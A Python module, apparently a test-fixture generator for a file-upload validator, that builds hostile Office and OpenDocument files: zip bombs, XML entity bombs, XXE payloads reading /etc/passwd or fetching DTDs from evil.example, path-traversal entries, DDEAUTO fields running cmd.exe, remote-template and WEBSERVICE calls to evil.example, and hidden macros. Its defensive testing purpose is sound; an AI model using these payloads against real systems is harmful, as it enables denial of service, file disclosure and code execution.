"""Office files that unpack without end, climb, hide, run or fetch."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping

from .honest import (
    Parts,
    archive,
    docx,
    docx_parts,
    jpeg,
    manifest,
    odf_content,
    odf_parts,
    odt,
    pdf,
    relations,
    types,
    words,
    xlsx_parts,
)
from .kinds import Hostile, made
from .pictures import PAGE, small_zip

LAUGHS = b"".join(
    b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"ha") for n in range(10)
)
LAUGH = b'<?xml version="1.0"?><!DOCTYPE x [' + LAUGHS + b"]><x>&l9;</x>"
BLOW_UP = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]><x>' + b"&a;" * 10_000 + b"</x>"
OUTSIDE = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
PARAMETER = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><x/>'
BARE = b'<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><x/>'
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

BOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def zeros(megabytes: int) -> bytes:
    """An honest document beside one part that unpacks to so much."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made_of:
        for name, body in docx_parts().items():
            made_of.writestr(name, body)
        with made_of.open("word/styles.xml", "w", force_zip64=False) as part:
            for _ in range(megabytes):
                part.write(b"\x00" * 1024 * 1024)
    return buffer.getvalue()


def overlapping() -> bytes:
    """Many entries of one and the same data: 42 kB that say they are 4 GB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(b"\x00" * 16 * 1024 * 1024) + packer.flush()
    total = zlib.crc32(b"\x00" * 16 * 1024 * 1024)
    sizes = (total, len(data), 16 * 1024 * 1024)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, *sizes, 8, 0) + b"word/0.x"
    entries = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, *sizes, 8, 0, 0, 0, 0, 0, 0)
        + b"word/%03d"[:8].replace(b"%03d", b"%03d" % n)
        for n in range(256)
    )
    body = local + data
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 256, 256, len(entries), len(body), 0)
    return body + entries + end


def nested(depth: int = 6) -> bytes:
    body = archive({"0": b"\x00" * 1024 * 1024})
    for _ in range(depth):
        body = archive({f"{n}.zip": body for n in range(16)})
    return body


def quine() -> bytes:
    """An archive that says it holds itself: one stored part of the size of the whole file."""
    whole = docx()
    return archive({**docx_parts(), "word/media/self.docx": whole})


def many(number: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made_of:
        for n in range(number):
            made_of.writestr(f"word/{n}.xml", b"")
    return buffer.getvalue()


def lying_number(number: int) -> bytes:
    """A directory of so many entries whose end says there are ten."""
    whole = bytearray(many(number))
    whole[-14:-10] = struct.pack("<2H", 10, 10)
    return bytes(whole)


def patched(parts: Parts, part: str, at: int, value: bytes) -> bytes:
    """The archive with a field of one part changed in its directory."""
    whole = bytearray(archive(parts))
    entry = whole.rindex(part.encode()) - 46
    whole[entry + at : entry + at + len(value)] = value
    return bytes(whole)


def linked() -> bytes:
    link = zipfile.ZipInfo("word/media/link.png")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return archive([*docx_parts().items(), (link, b"/etc/passwd")])


def twins() -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return archive([*docx_parts().items(), ("word/document.xml", words("<w:p/>"))])


def field(*runs: str) -> bytes:
    inside = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return words(f"<w:p>{inside}</w:p>")


def hostile() -> Iterator[Hostile]:
    yield Hostile("bomb", "42 kB that say 4 GB, all of one piece", "note.docx", overlapping)
    yield Hostile("bomb", "part of 200 MB", "note.docx", lambda: zeros(200))
    yield Hostile("bomb", "part of 20 MB of nothing", "note.docx", lambda: zeros(20))
    yield Hostile("bomb", "archives in archives", "note.docx", nested)
    yield Hostile("bomb", "archives in archives as odt", "note.odt", nested)
    yield Hostile("bomb", "holds itself", "note.docx", quine)
    yield Hostile("bomb", "100,000 parts", "note.docx", lambda: many(100_000))
    yield Hostile("bomb", "60,000 parts that say ten", "note.docx", lambda: lying_number(60_000))
    yield made("bomb", "part larger than it says", "note.docx", _understated())
    for label, body in {"laughs": LAUGH, "blow-up": BLOW_UP, "file entity": OUTSIDE,
                        "parameter entity": PARAMETER, "outside type": BARE}.items():  # fmt: skip
        yield from _everywhere(label, body)
    yield from _paths()
    yield from _cut()
    yield from _running()
    yield from _open_document()


def _understated() -> bytes:
    """Its directory says four bytes; the data unpack to a megabyte."""
    parts = {**docx_parts(), "word/styles.xml": b" " * 1024 * 1024}
    return patched(parts, "word/styles.xml", 24, struct.pack("<L", 4))


def _everywhere(label: str, body: bytes) -> Iterator[Hostile]:
    for part in ("[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/styles.xml"):
        made_of = archive({**docx_parts(), part: body})
        yield made("xml bomb", f"{label} in {part}", "note.docx", made_of)
    yield made("xml bomb", f"{label} in a sheet", "t.xlsx", archive(
        {**xlsx_parts(), "xl/worksheets/sheet1.xml": body}))  # fmt: skip
    yield made("xml bomb", f"{label} in odt", "note.odt", archive(
        {**odf_parts("odt"), "content.xml": body}))  # fmt: skip
    listed = {**odf_parts("ods"), "META-INF/manifest.xml": body}
    yield made("xml bomb", f"{label} in a manifest", "t.ods", archive(listed))


def _paths() -> Iterator[Hostile]:
    for path in ("../../etc/passwd.xml", "/etc/passwd.xml", "word/../../x.xml", "..\\..\\x.xml",
                 "C:\\x.xml", "C:x.xml", "\\\\evil\\x.xml"):  # fmt: skip
        yield made("climbs", path, "note.docx", archive({**docx_parts(), path: b"<x/>"}))
    yield made("climbs", "symbolic link", "note.docx", linked())
    yield made("climbs", "odt with ..", "n.odt", archive({**odf_parts("odt"), "../x.xml": b"<x/>"}))
    yield made("twins", "same name", "note.docx", twins())
    yield made("twins", "same but for capitals", "note.docx", archive(
        {**docx_parts(), "WORD/document.xml": words()}))  # fmt: skip
    locked = patched(docx_parts(), "word/document.xml", 8, b"\x01\x00")
    yield made("locked", "part with a password", "note.docx", locked)
    yield made(
        "locked", "whole file with a password", "note.docx", b"\xd0\xcf\x11\xe0" + b"\0" * 512
    )
    yield made("locked", "old workbook", "table.xlsx", b"\xd0\xcf\x11\xe0" + b"\0" * 512)
    entry = '<m:encryption-data xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    yield made("locked", "odt with a password", "note.odt", archive(
        {**odf_parts("odt"), "META-INF/manifest.xml": manifest(entry)}))  # fmt: skip
    method = patched(docx_parts(), "word/document.xml", 10, b"\x0c\x00")
    yield made("locked", "packed another way", "note.docx", method)


def _cut() -> Iterator[Hostile]:
    whole = docx()
    for label, body in {
        "without its directory": whole[: whole.rindex(b"PK\x01\x02")],
        "half": whole[: len(whole) // 2],
        "without its last byte": whole[:-1],
        "first bytes alone": whole[:4],
        "part damaged": whole.replace(b"word/document.xml", b"word/documenX.xml", 1),
        "data damaged": whole[:60] + b"\xff\xff\xff\xff" + whole[64:],
    }.items():
        yield made("cut off", f"docx, {label}", "note.docx", body)
    for label, body in {
        "page before": PAGE + whole,
        "page behind": whole + PAGE,
        "picture before": jpeg() + whole,
        "pdf before": pdf() + whole,
        "archive before": small_zip() + whole,
        "archive behind": whole + small_zip(),
        "words in the comment": whole[:-2] + struct.pack("<H", len(PAGE)) + PAGE,
    }.items():
        yield made("two in one", f"docx, {label}", "note.docx", body)
    for label, body in {"odt": odt(), "zip": small_zip(), "xlsx": archive(xlsx_parts()),
                        "pdf": pdf(), "jar": archive({"META-INF/MANIFEST.MF": b"Main-Class: X"}),
                        "words": b"just words"}.items():  # fmt: skip
        yield made("renamed", f"{label} as docx", "note.docx", body)
    for label, name in (("xlsx", "t.xlsx"), ("odt", "n.odt"), ("ods", "t.ods")):
        yield made("renamed", f"docx as {label}", name, whole)
    yield made("renamed", "odt as ods", "t.ods", odt())


def _running() -> Iterator[Hostile]:
    def note(label: str, more: Mapping[str, bytes]) -> Hostile:
        return made("runs or fetches", label, "note.docx", archive({**docx_parts(), **more}))

    def sheet(label: str, more: Mapping[str, bytes]) -> Hostile:
        return made("runs or fetches", label, "table.xlsx", archive({**xlsx_parts(), **more}))

    macro = MAIN.replace(
        "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document"
    )
    macro = macro.replace("document.main", "document.macroEnabled.main")
    yield note("macro", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield note(
        "macro under another name", {"word/media/image.png": b"\xd0\xcf\x11\xe0" + b"\0" * 64}
    )
    yield note("docm renamed", {"[Content_Types].xml": types(("/word/document.xml", macro))})
    yield note("macro type", {"[Content_Types].xml": types(
        ("/word/document.xml", MAIN), ("/word/x.xml", "application/vnd.ms-office.vbaProject"))})  # fmt: skip
    yield note("two main parts", {"[Content_Types].xml": types(
        ("/word/document.xml", MAIN), ("/word/other.xml", MAIN))})  # fmt: skip
    yield note("main part is not there", {"[Content_Types].xml": types(("/word/gone.xml", MAIN))})
    yield note("control", {"word/activeX/activeX1.xml": b"<x/>"})
    yield note("object", {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})
    yield note("workbook inside", {"word/embeddings/Microsoft_Excel_Sheet.xlsx": docx()})
    yield note("program inside", {"word/media/run.exe": b"MZ"})
    yield note("program called picture", {"word/media/image1.png": b"MZ" + b"\0" * 64})
    yield note("pdf called picture", {"word/media/image1.png": pdf()})
    yield note("page inside", {"word/afchunk.html": PAGE})
    yield note("XML in UTF-16", {"word/document.xml": words().decode().encode("utf-16")})
    yield note("XML in UTF-7", {"word/document.xml": b'<?xml version="1.0" encoding="utf-7"?><x/>'})
    for kind, target in (
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("attachedTemplate", "file://///evil/t.dotm"),
        ("image", "https://evil.example/pixel.png"),
        ("oleObject", "https://evil.example/x"),
        ("frame", "https://evil.example/x.html"),
        ("subDocument", "file:///x.docx"),
    ):
        rels = relations((kind, target, "External"))
        yield note(f"{kind} from {target}", {"word/_rels/settings.xml.rels": rels})
    yield note("piece of a page", {"word/_rels/document.xml.rels": relations(("aFChunk", "x.xml"))})
    yield note(
        "share without a mode", {"word/_rels/d.xml.rels": relations(("image", "\\\\evil\\x"))}
    )
    for label, body in {
        "DDE": field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        "DDE in pieces": field("D", "DE", "AUTO cmd"),
        "DDE in other letters": field("&#68;&#x44;E cmd"),
        "DDE by numbers": field("QUOTE 68 68 69 65 85 84 79 32"),
        "DDE in an attribute": words('<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'),
        "DDE under another prefix": field("DDEAUTO cmd").replace(b"w:", b"q:"),
        "picture by a field": field('INCLUDEPICTURE "https://evil.example/x.png"'),
        "text from a share": field('INCLUDETEXT "\\\\evil\\x.txt"'),
    }.items():
        yield note(label, {"word/document.xml": body})
    yield note("DDE in a header", {"word/header1.xml": field("DDE cmd")})
    yield sheet("macro in a workbook", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield sheet(
        "DDE link", {"xl/externalLinks/externalLink1.xml": b'<x><ddeLink ddeService="cmd"/></x>'}
    )
    yield sheet("outside workbook", {"xl/externalLinks/_rels/e.xml.rels": relations(
        ("externalLinkPath", "file:///x.xlsx", "External"))})  # fmt: skip
    cell = xlsx_parts()["xl/worksheets/sheet1.xml"]
    for formula in (b'WEBSERVICE("https://evil.example")', b'webservice ("//evil.example")'):
        yield sheet(formula[:10].decode(), {
            "xl/worksheets/sheet1.xml": cell.replace(b"SUM(1,2)", formula)})  # fmt: skip
    for kind in ("macrosheet", "intlmacrosheet"):
        listed = types(
            ("/xl/workbook.xml", BOOK), ("/xl/m.xml", f"application/vnd.ms-excel.{kind}+xml")
        )
        yield sheet(kind, {"[Content_Types].xml": listed})
    yield sheet("unknown part", {"xl/evil.bin": b"\x00"})


def _open_document() -> Iterator[Hostile]:
    for extension in ("odt", "ods"):
        name = f"note.{extension}"

        def with_part(part: str, body: bytes, kind: str = extension) -> bytes:
            return archive({**odf_parts(kind), part: body})

        for label, body in {
            "macro": with_part("Basic/Standard/Module1.xml", b"<x/>"),
            "script": with_part("Scripts/python/x.py", b"x"),
            "program": with_part("Pictures/x.png", b"MZ" + b"\0" * 64),
            "strange part": with_part("evil.bin", b"x"),
            "strange folder": with_part("evil/x.xml", b"<x/>"),
            "document inside": with_part("Pictures/x.png", docx()),
            "no first line": archive({"content.xml": b"<x/>", **odf_parts(extension)}),
            "no content": archive(
                {k: v for k, v in odf_parts(extension).items() if k != "content.xml"}
            ),
        }.items():
            yield made("runs or fetches", f"{extension}, {label}", name, body)
        for label, inside in {
            "event": '<script:event-listener script:event-name="dom:load"/>',
            "object": '<draw:object-ole xlink:href="./Object 1"/>',
            "plugin": '<draw:plugin xlink:href="x"/>',
            "applet": '<draw:applet draw:code="x"/>',
            "frame": '<draw:floating-frame xlink:href="https://evil.example"/>',
            "DDE": '<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>',
            "picture from outside": '<draw:image xlink:href="https://evil.example/x.png"/>',
            "picture from a share": '<draw:image xlink:href="//evil/x.png"/>',
            "picture by hidden letters": '<draw:image xlink:href="&#104;ttps://evil.example/x.png"/>',
            "section from outside": '<text:section-source xlink:href="https://evil.example"/>',
            "table from outside": '<table:table-source xlink:href="file:///x.ods"/>',
        }.items():
            body = archive(odf_parts(extension, inside))
            yield made("runs or fetches", f"{extension}, {label}", name, body)
    body = odf_content("<office:scripts><office:script>x</office:script></office:scripts>")
    yield made("runs or fetches", "odt, script in its words", "note.odt", archive(
        {**odf_parts("odt"), "content.xml": body}))  # fmt: skip
